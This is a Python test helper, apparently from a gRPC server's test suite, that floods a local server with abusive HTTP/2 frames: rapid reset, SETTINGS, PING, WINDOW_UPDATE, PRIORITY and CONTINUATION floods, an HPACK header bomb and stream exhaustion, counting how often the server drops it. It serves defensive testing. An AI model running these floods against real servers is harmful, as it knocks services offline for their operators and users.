"""A client of gRPC that floods a server with frames, in a process of its own.

Usage: python -m tests.server.grpc_attacker PORT FLOOD SECONDS
"""

from __future__ import annotations

import socket
import sys
import time
from collections.abc import Callable
from contextlib import suppress

from tests.server.grpc_process import PREDICT, request
from tests.server.http2 import PREFACE, frame, message

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
FIELDS = [
    *((":method", "POST"), (":scheme", "http"), (":path", PREDICT), (":authority", "x")),
    *(("te", "trailers"), ("content-type", "application/grpc")),
]
PLAIN = bytes(b"".join(b"\0" + bytes([len(n)]) + n.encode() + bytes([len(v)]) + v.encode() for n, v in FIELDS))
MESSAGE = message(request())


class Attacker:
    """A connection that sends as fast as it can, and connects again when it was thrown out."""

    def __init__(self, port: int, hello: bytes = PREFACE + frame(SETTINGS, 0, 0)) -> None:
        self.port, self.hello = port, hello
        self.thrown_out = 0
        self.connect()

    def connect(self) -> None:
        self.stream = 1
        self.socket = socket.create_connection(("127.0.0.1", self.port), timeout=60)
        self.socket.sendall(self.hello)
        self.socket.settimeout(0.2)

    def send(self, data: bytes) -> None:
        try:
            self.socket.sendall(data)
            with suppress(TimeoutError, BlockingIOError):
                self.socket.settimeout(0.001)
                while self.socket.recv(1 << 20):
                    pass
                raise ConnectionError("closed")
        except TimeoutError:
            return
        except ConnectionError:
            self.thrown_out += 1
            self.socket.close()
            self.connect()
        finally:
            self.socket.settimeout(0.2)

    def next(self) -> int:
        self.stream += 2
        return self.stream - 2

    def run(self, part: Callable[[Attacker], bytes], seconds: float) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self.send(part(self))
        self.socket.close()


def u32(number: int) -> bytes:
    return number.to_bytes(4, "big")


def rapid_reset(attacker: Attacker) -> bytes:
    parts = []
    for _ in range(500):
        stream = attacker.next()
        parts.append(frame(HEADERS, 4, stream, PLAIN) + frame(DATA, 1, stream, MESSAGE))
        parts.append(frame(RST_STREAM, 0, stream, u32(8)))
    return b"".join(parts)


def large_header(attacker: Attacker) -> bytes:
    """One entry of 4,000 bytes, named 10,000 times."""
    block = b"\x40\x01a\x7f\xa1\x1e" + bytes(4000) + b"\xbe" * 10_000
    return frame(HEADERS, 5, attacker.next(), block)


FLOODS = {
    "rapid reset": rapid_reset,
    "settings": lambda _: frame(SETTINGS, 0, 0, b"\0\4" + u32(1000)) * 2000,
    "ping": lambda _: frame(PING, 0, 0, bytes(8)) * 2000,
    "window updates": lambda _: frame(WINDOW_UPDATE, 0, 0, u32(1)) * 5000,
    "priorities": lambda _: frame(PRIORITY, 0, 1, bytes(5)) * 5000,
    "continuation": lambda one: frame(HEADERS, 1, one.next(), b"\x82") + frame(CONTINUATION, 0, one.stream - 2) * 5000,
    "header bomb": large_header,
    "empty data": lambda one: frame(HEADERS, 4, one.next(), PLAIN) + frame(DATA, 0, one.stream - 2) * 5000,
    "streams": lambda one: b"".join(frame(HEADERS, 4, one.next(), PLAIN) for _ in range(500)),
}


if __name__ == "__main__":
    attacker = Attacker(int(sys.argv[1]))
    attacker.run(FLOODS[sys.argv[2]], float(sys.argv[3]))
    print(attacker.thrown_out)
